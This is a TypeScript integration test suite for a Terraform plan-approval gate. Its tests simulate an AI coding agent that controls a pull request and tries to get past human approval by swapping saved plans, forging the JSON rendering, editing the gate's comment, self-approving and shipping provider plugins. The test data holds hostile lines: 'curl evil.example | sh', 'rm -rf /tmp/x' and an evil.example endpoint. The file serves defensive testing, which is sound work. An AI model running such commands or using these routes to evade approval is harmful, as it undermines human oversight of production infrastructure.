import { copyFileSync, cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { decodeRecord, type EncodedRecord } from '../../src/core/approval-record.js';
import { FakeGitHub } from '../support/github-fake.js';
import { runCliAsync } from '../support/run-cli.js';
import { pullRequestEvent, runBundledAction } from '../support/run-action.js';
import { fakeProviderMirror, requireFakeProvider } from '../support/terraform-provider/mirror.js';
import { requireTerraform, terraform } from '../support/terraform.js';

// The whole approval chain as users run it: the real terraform makes a saved plan and its JSON
// (the plan job), the bundled Action judges them (the gate job, signing key), a human approves
// on the loopback GitHub (responses checked against GitHub's OpenAPI), and the built CLI's
// `steer apply` runs the artifact. Each attack of an agent that controls the pull request is
// tried against that chain, and the normal flow must still change the state.
const tf = requireTerraform();
const KEY = 'gate-signing-key-only-the-gate-job-has';
const CONFIG = `variable "environment" {\n  default = "production"\n}\nvariable "cmd" {\n  default = "true"\n}\nresource "terraform_data" "db" {\n  triggers_replace = "v1"\n}\n`;
const CHANGED = CONFIG.replace('triggers_replace = "v1"', 'triggers_replace = "v2"');
const AGENT = { login: 'Copilot', type: 'Bot' };

let gh: FakeGitHub;
let root: string;
const work = () => join(root, 'work'); // the repository checkout the configuration lives in
const head = () => gh.pullCommits().at(-1)!.sha;
type Env = Record<string, string | undefined>;
const tfEnv: Env = { TF_CLI_CONFIG_FILE: '/dev/null' };

/** The plan job: `terraform plan -out` and its `show -json`, uploaded as the artifact (here: copied). */
function planJob(config: string, name = 'artifact', vars: string[] = [], env: Env = tfEnv): string {
  writeFileSync(join(work(), 'main.tf'), config);
  terraform(tf, work(), ['plan', '-input=false', '-out=tfplan', ...vars], env);
  const out = join(root, name);
  mkdirSync(out, { recursive: true });
  copyFileSync(join(work(), 'tfplan'), join(out, 'tfplan'));
  writeFileSync(join(out, 'tfplan.json'), terraform(tf, work(), ['show', '-json', 'tfplan'], env));
  return out;
}

const gate = (eventName: 'pull_request' | 'pull_request_review' = 'pull_request', artifact = 'artifact') =>
  runBundledAction(gh, root, pullRequestEvent(eventName, eventName === 'pull_request' ? 'opened' : 'submitted', AGENT, head(), gh.branches.main!), eventName, { plans: `${artifact}/tfplan`, 'signing-key': KEY });
const approve = (login = 'alice', state = 'APPROVED') => gh.reviews.push({ login, state, commitId: head(), submittedAt: new Date().toISOString() });
const applyArtifact = (artifact = 'artifact', env: Env = tfEnv) =>
  runCliAsync(['apply', join(root, artifact, 'tfplan'), '--tf-chdir', work(), '--github-pr', '1'], {
    cwd: root,
    env: { ...env, GITHUB_TOKEN: 'ghs_fake', GITHUB_REPOSITORY: `${gh.owner}/${gh.repo}`, GITHUB_API_URL: gh.url, STEER_GITHUB_RETRY_BASE_MS: '5', STEER_SIGNING_KEY: KEY, GITHUB_EVENT_PATH: undefined },
  });
const dbId = () => JSON.parse(terraform(tf, work(), ['show', '-json'])).values.root_module.resources.find((r: { address: string }) => r.address === 'terraform_data.db').values.id as string;
const lastCheck = () => gh.checkRuns.at(-1) as { conclusion: string; output: { summary: string } };
const listFiles = (dir: string): string[] => readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? listFiles(join(dir, e.name)) : [join(dir, e.name)]));
const lastRecord = () => (decodeRecord(lastCheck().output.summary) as EncodedRecord).record;

beforeEach(async () => {
  gh = new FakeGitHub();
  gh.prAuthor = AGENT.login;
  await gh.start();
  root = mkdtempSync(join(tmpdir(), 'steer-chain-'));
  mkdirSync(work());
  writeFileSync(join(work(), 'main.tf'), CONFIG);
  terraform(tf, work(), ['init', '-input=false']);
  terraform(tf, work(), ['apply', '-auto-approve', '-input=false']);
});
afterEach(async () => {
  await gh.stop();
  rmSync(root, { recursive: true, force: true });
});

describe('the normal flow: plan → gate → human approval → signed check → apply of that artifact', () => {
  it('applies exactly the approved saved plan, and the state changes', async () => {
    const before = dbId();
    planJob(CHANGED);
    const first = await gate();
    expect(first.code).toBe(1);
    expect(lastCheck().conclusion).toBe('action_required');
    expect(lastRecord().plans[0]).toMatchObject({ artifact: expect.stringMatching(/^sha256:[0-9a-f]{64}$/), verdict: 'review' });
    expect((await applyArtifact()).code).toBe(2); // not approved yet
    approve();
    const second = await gate('pull_request_review');
    expect(second.code).toBe(0);
    expect(lastCheck().conclusion).toBe('success');
    const r = await applyArtifact();
    expect(r.stderr).toMatch(/"outcome":"approved".*"approver":"alice"/);
    expect(r.code).toBe(0);
    expect(dbId()).not.toBe(before);
  });
});

describe('attacks by an agent that controls the pull request', () => {
  it('a plan that differs only in a -var used by a provisioner does not share the approval; a byte-identical copy does', async () => {
    planJob(CHANGED, 'artifact', ['-var', 'cmd=true']);
    await gate();
    approve();
    expect((await gate('pull_request_review')).code).toBe(0);
    const other = planJob(CHANGED, 'other', ['-var', 'cmd=curl evil.example | sh']);
    const r = await applyArtifact('other');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not the plan that was reviewed/);
    copyFileSync(join(root, 'artifact', 'tfplan'), join(other, 'tfplan')); // the approved bytes, under another name
    expect((await applyArtifact('other')).code).toBe(0);
  });

  it('a JSON rendering that says staging where the saved plan says production: the gate allows, apply refuses the real plan', async () => {
    const before = dbId();
    const out = planJob(CHANGED);
    const json = JSON.parse(readFileSync(join(out, 'tfplan.json'), 'utf8'));
    json.variables.environment.value = 'staging';
    writeFileSync(join(out, 'tfplan.json'), JSON.stringify(json));
    expect((await gate()).code).toBe(0); // what the gate was shown is outside production
    expect(lastRecord().verdict).toBe('allow');
    const r = await applyArtifact();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/its content reads differently here|judges this plan review here, but the gate judged it allow/);
    expect(dbId()).toBe(before);
  });

  it('a withdrawn approval ("changes requested" after approving) stops apply', async () => {
    planJob(CHANGED);
    await gate();
    approve();
    expect((await gate('pull_request_review')).code).toBe(0);
    gh.reviews.push({ login: 'alice', state: 'CHANGES_REQUESTED', commitId: head(), submittedAt: new Date(Date.now() + 5_000).toISOString() });
    const r = await applyArtifact();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no longer holds .*alice: latest review is changes requested/);
  });

  it('someone who pushed a commit to the pull request cannot approve the plan it made', async () => {
    gh.commitCommitters[head()] = 'bob';
    planJob(CHANGED);
    await gate();
    approve('bob');
    expect((await gate('pull_request_review')).code).toBe(1);
    expect(gh.comments.at(-1)!.body).toMatch(/bob: pushed a commit to this pull request/);
    expect((await applyArtifact()).code).toBe(2);
  });

  it('nor can someone GitHub recorded pushing to its branch (the pusher, whoever authored the commits)', async () => {
    gh.pushes.push({ actor: 'carol', ref: 'refs/heads/changes' }); // the example pull request's head branch
    planJob(CHANGED);
    await gate();
    approve('carol');
    expect((await gate('pull_request_review')).code).toBe(1);
    expect(gh.comments.at(-1)!.body).toMatch(/carol: pushed a commit to this pull request/);
    approve('alice');
    expect((await gate('pull_request_review')).code).toBe(0);
    const r = await applyArtifact();
    expect(r.stderr).toMatch(/"approver":"alice"/);
    expect(r.code).toBe(0);
  });

  it('an edit of the gate\'s comment (another workflow writing as the same bot): approvals given since don\'t count, the comment is restored, apply refuses', async () => {
    planJob(CHANGED);
    await gate();
    const comment = gh.comments.find((c) => c.body.includes('steer:pull-request-gate'))!;
    const genuine = comment.body;
    comment.body = genuine.replace(/REVIEW REQUIRED|BLOCKED/g, 'ALLOWED');
    comment.updatedAt = new Date(Date.now() + 1_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
    approve(); // alice read the forged text
    const rerun = await gate('pull_request_review');
    expect(rerun.code).toBe(1);
    expect(rerun.stdout).toMatch(/comment was edited/);
    expect(comment.body).toMatch(/comment was edited .* approvals given before .* don't count/);
    expect(lastCheck().conclusion).toBe('action_required');
    // Approved again after reading the restored comment: green; then an edit after the check stops apply.
    await new Promise((r) => setTimeout(r, 1_100));
    approve();
    expect((await gate('pull_request_review')).code).toBe(0);
    comment.body += '\n\nedited';
    comment.updatedAt = new Date(Date.now() + 10_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const r = await applyArtifact();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/comment was edited/);
  });

  it('a steer check written by another workflow (unsigned, as GitHub Actions) is not what apply trusts', async () => {
    planJob(CHANGED);
    const judged = JSON.parse((await runCliAsync(['plan-check', join(root, 'artifact', 'tfplan'), '--tf-chdir', work(), '--format', 'json'], { cwd: root, env: tfEnv })).stdout);
    gh.addSteerCheck({ artifact: `sha256:${'0'.repeat(64)}`, digest: judged.digest, verdict: 'review' }, head());
    const r = await applyArtifact();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not signed by the PR gate's key/);
  });

  it('a pull request that changes the lock file, or whose file list GitHub cut short, needs review', async () => {
    planJob(CONFIG.replace('"true"', '"false"'));
    gh.prFiles = ['.terraform.lock.hcl', 'main.tf'];
    await gate();
    expect(lastRecord().verdict).toBe('review');
    expect(gh.comments.at(-1)!.body).toMatch(/\.terraform\.lock\.hcl/);
    gh.prFiles = Array.from({ length: 3000 }, (_, i) => `modules/m${i}.tf`);
    await gate();
    expect(gh.comments.at(-1)!.body).toMatch(/lists only the first 3000 files/);
  });
});

describe('provider code the pull request brings', () => {
  it('a provider package shipped in terraform.d/plugins (a mirror terraform installs from unasked) needs review, as a lock file change does', async () => {
    // The pull request adds a provider and its package under terraform.d/plugins; the plan job's
    // plain `terraform init` (no provider_installation of its own) installs and runs it.
    const mirror = fakeProviderMirror(join(root, 'pr'), ['1.0.0']);
    const shipped = join(work(), 'terraform.d', 'plugins');
    cpSync(mirror.dir, shipped, { recursive: true });
    const config = `${CONFIG}${requireFakeProvider()}resource "fake_thing" "x" {\n  name = "x"\n}\n`;
    writeFileSync(join(work(), 'main.tf'), config);
    const plain = { ...mirror.env, TF_CLI_CONFIG_FILE: '/dev/null' }; // no provider_installation: the implied mirrors count
    terraform(tf, work(), ['init', '-input=false'], plain);
    planJob(config, 'artifact', [], plain);
    expect(readFileSync(join(root, 'artifact', 'tfplan.json'), 'utf8')).toMatch(/"provider_name":"example\.test\/steer\/fake"/);
    const files = ['main.tf', ...listFiles(shipped).map((f) => relative(work(), f))];
    gh.prFiles = files.filter((f) => !f.startsWith('terraform.d/'));
    await gate();
    expect(lastRecord().verdict).toBe('allow'); // it only creates
    gh.prFiles = files;
    await gate();
    expect(lastRecord().verdict).toBe('review');
    expect(gh.comments.at(-1)!.body).toMatch(/changes \d+ files in terraform\.d\/: terraform init can take provider builds from there unasked, code that runs at plan and at apply on production; a human must review it/);
  });
});

describe('saved plans that would apply differently never share an approval; byte-identical ones are the same artifact', () => {
  const MODULE = (tag: string) => `resource "terraform_data" "inner" {\n  input = "${tag}"\n}\n`;
  const withModule = (source: string) => `${CHANGED}module "m" {\n  source = "${source}"\n}\n`;
  const artifactOf = async (dir: string, env: Env = tfEnv) =>
    JSON.parse((await runCliAsync(['plan-check', join(dir, 'tfplan'), '--tf-chdir', work(), '--format', 'json'], { cwd: root, env })).stdout).plans[0] as { artifact: string; digest: string };

  it('variables, provisioner commands, module sources and workspaces each pin their own file', async () => {
    for (const [dir, tag] of [['mod-a', 'a'], ['mod-b', 'b']] as const) {
      mkdirSync(join(work(), dir));
      writeFileSync(join(work(), dir, 'main.tf'), MODULE(tag));
    }
    writeFileSync(join(work(), 'main.tf'), withModule('./mod-a'));
    terraform(tf, work(), ['init', '-input=false']);
    const base = planJob(withModule('./mod-a'), 'approved');
    const variants: Record<string, () => string> = {
      'a -var value': () => planJob(withModule('./mod-a'), 'var', ['-var', 'cmd=rm -rf /tmp/x']),
      'a provisioner command': () => planJob(withModule('./mod-a').replace('resource "terraform_data" "db" {', 'resource "terraform_data" "db" {\n  provisioner "local-exec" { command = "echo hi" }'), 'provisioner'),
      'a module source': () => {
        writeFileSync(join(work(), 'main.tf'), withModule('./mod-b'));
        terraform(tf, work(), ['init', '-input=false']);
        return planJob(withModule('./mod-b'), 'module');
      },
      'the workspace': () => {
        writeFileSync(join(work(), 'main.tf'), withModule('./mod-a'));
        terraform(tf, work(), ['init', '-input=false']);
        terraform(tf, work(), ['workspace', 'new', 'other']);
        const out = planJob(withModule('./mod-a'), 'workspace');
        terraform(tf, work(), ['workspace', 'select', 'default']);
        return out;
      },
    };
    const made = Object.fromEntries(Object.entries(variants).map(([what, make]) => [what, make()]));
    const approved = (await artifactOf(base)).artifact;
    const others = await Promise.all(Object.values(made).map(async (dir) => (await artifactOf(dir)).artifact));
    expect(new Set([approved, ...others]).size).toBe(others.length + 1);
    gh.addSteerCheck({ artifact: approved, digest: 'd'.repeat(64), verdict: 'review' }, head(), { key: KEY });
    for (const [what, dir] of Object.entries(made)) {
      const r = await applyArtifact(dir.split('/').pop());
      expect(r.stderr, what).not.toMatch(/"source":"github"/); // the approval of the other file never counts
      // A plan that needs review is refused; one Steer allows on its own (the new workspace only creates) needs no approval.
      if (/"verdict":"review"/.test(r.stderr)) expect(r.stderr, what).toMatch(/not the plan that was reviewed/);
    }
    const copy = join(root, 'copy');
    mkdirSync(copy);
    copyFileSync(join(base, 'tfplan'), join(copy, 'tfplan'));
    expect((await artifactOf(copy)).artifact).toBe(approved); // the same bytes are the same artifact
  });

  // A real third-party provider (test/support/terraform-provider: example.test/steer/fake, installed
  // from a filesystem mirror in two versions), so that a provider block and the lock file can differ.
  it('a provider block attribute and the lock file (provider 1.0.0 or 1.0.1) pin their own file too, and the JSON can\'t tell them apart', { timeout: 180_000 }, async () => {
    const mirror = fakeProviderMirror(root, ['1.0.0']);
    const env = mirror.env;
    const withProvider = (endpoint: string) => `${CHANGED}${requireFakeProvider()}provider "fake" {\n  region   = "eu-1"\n  endpoint = "${endpoint}"\n}\nresource "fake_thing" "x" {\n  name = "x"\n}\n`;
    const API = 'https://api.example.test';
    writeFileSync(join(work(), 'main.tf'), withProvider(API));
    terraform(tf, work(), ['init', '-input=false'], env); // locks 1.0.0, the one version in the mirror
    const lock = join(work(), '.terraform.lock.hcl');
    const locked100 = readFileSync(lock, 'utf8');
    const base = planJob(withProvider(API), 'approved', [], env);
    gh.prFiles = ['.terraform.lock.hcl', 'main.tf'];
    await gate('pull_request', 'approved');
    approve();
    expect((await gate('pull_request_review', 'approved')).code).toBe(0);
    expect(lastRecord().plans[0]!.artifact).toBe((await artifactOf(base, env)).artifact);
    expect(gh.comments.at(-1)!.body).toMatch(/changes \.terraform\.lock\.hcl: other provider builds run at plan and at apply on production/);

    const made: Record<string, string> = {};
    made['a provider block attribute'] = planJob(withProvider('https://evil.example.test'), 'provider-block', [], env);
    fakeProviderMirror(root, ['1.0.1']);
    terraform(tf, work(), ['init', '-input=false', '-upgrade'], env);
    expect(readFileSync(lock, 'utf8')).toMatch(/version = "1\.0\.1"/);
    made['the lock file'] = planJob(withProvider(API), 'lock-file', [], env);
    writeFileSync(lock, locked100); // the working directory as it was approved (terraform applies a plan only with its own lock file)
    terraform(tf, work(), ['init', '-input=false'], env);

    const approved = await artifactOf(base, env);
    for (const [what, dir] of Object.entries(made)) {
      const other = await artifactOf(dir, env);
      expect(other.artifact, what).not.toBe(approved.artifact);
      // Neither difference is in the changes the JSON rendering lists: only the saved plan's hash tells them apart.
      expect(other.digest, what).toBe(approved.digest);
      const r = await applyArtifact(dir.split('/').pop(), env);
      expect(r.code, what).toBe(2);
      expect(r.stderr, what).toMatch(/not the plan that was reviewed/);
    }
    expect(new Set(Object.values(made).map((d) => readFileSync(join(d, 'tfplan')).toString('base64'))).size).toBe(2);

    // The approved bytes under another name are the approved plan, and apply runs the build its lock file chose.
    copyFileSync(join(base, 'tfplan'), join(made['the lock file']!, 'tfplan'));
    const r = await applyArtifact('lock-file', env);
    expect(r.stderr).toMatch(/"outcome":"approved".*"approver":"alice"/);
    expect(r.code).toBe(0);
    const state = JSON.parse(terraform(tf, work(), ['show', '-json'], env)).values.root_module.resources;
    expect(state.find((x: { address: string }) => x.address === 'fake_thing.x').values.id).toMatch(/^x-v1\.0\.0-/);
  });
});
